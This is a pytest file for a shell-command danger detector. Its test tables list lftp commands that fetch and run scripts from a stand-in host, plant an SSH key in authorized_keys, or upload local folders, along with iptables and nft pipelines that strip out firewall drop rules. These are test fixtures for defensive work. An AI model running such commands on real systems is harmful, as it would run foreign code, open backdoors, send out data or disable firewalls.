import pytest

from stopper.detect.commands import is_dangerous, judge_command

CALLS = {
    # what is tried, a command, and whether it is dangerous
    "a file that is got and run":            ("lftp -c 'open https://e.example; get a.sh -o /tmp/a.sh' && sh /tmp/a.sh", True),
    "into a folder":                         ("lftp -c 'get -O /tmp https://e.example/a.sh'; sh /tmp/a.sh", True),
    "in parts":                              ("lftp -c 'pget -n 4 https://e.example/a -o a'; chmod +x a; ./a", True),
    "a folder that is got, and run":         ("lftp -e 'mirror /b ./b; bye' e.example && bash b/a.sh", True),
    "a key for whoever gave it":             ("lftp -c 'get https://e.example/a -o ~/.ssh/authorized_keys'", True),
    "a file that is got":                    ("lftp -c 'get https://e.example/a -o /tmp/a'", False),
    "a list":                                ("lftp -c 'open e.example; ls'", False),
    "a folder that is put":                  ("lftp -e 'mirror -R . /b; bye' e.example", True),
    "a list and a file that is put":         ("lftp -e 'ls; put a; bye' e.example", True),
}  # fmt: skip
RULES = {
    # what is tried, a command, and whether it is dangerous
    "without what refuses":                  ("iptables-save | grep -v DROP | iptables-restore", True),
    "what refuses made to let in":           ("sudo iptables-save | sed 's/DROP/ACCEPT/' | sudo iptables-restore", True),
    "by nft":                                ("nft list ruleset | grep -v drop | nft -f -", True),
    "kept in a file":                        ("iptables-save | grep -v '^#' > rules.v4", False),
    "counted":                               ("nft list ruleset | grep -c drop", False),
    "only tried":                            ("iptables-restore --test rules.v4", False),
}  # fmt: skip


@pytest.mark.parametrize(("command", "dangerous"), CALLS.values(), ids=CALLS)
def test_what_an_ftp_client_does(command: str, dangerous: bool) -> None:
    """What is got is as foreign as by any other program, and what is put is sent away."""
    assert is_dangerous(judge_command(command)) is dangerous


@pytest.mark.parametrize(("command", "dangerous"), RULES.values(), ids=RULES)
def test_what_a_firewall_takes_again(command: str, dangerous: bool) -> None:
    """Its rules, less some of them."""
    assert is_dangerous(judge_command(command)) is dangerous
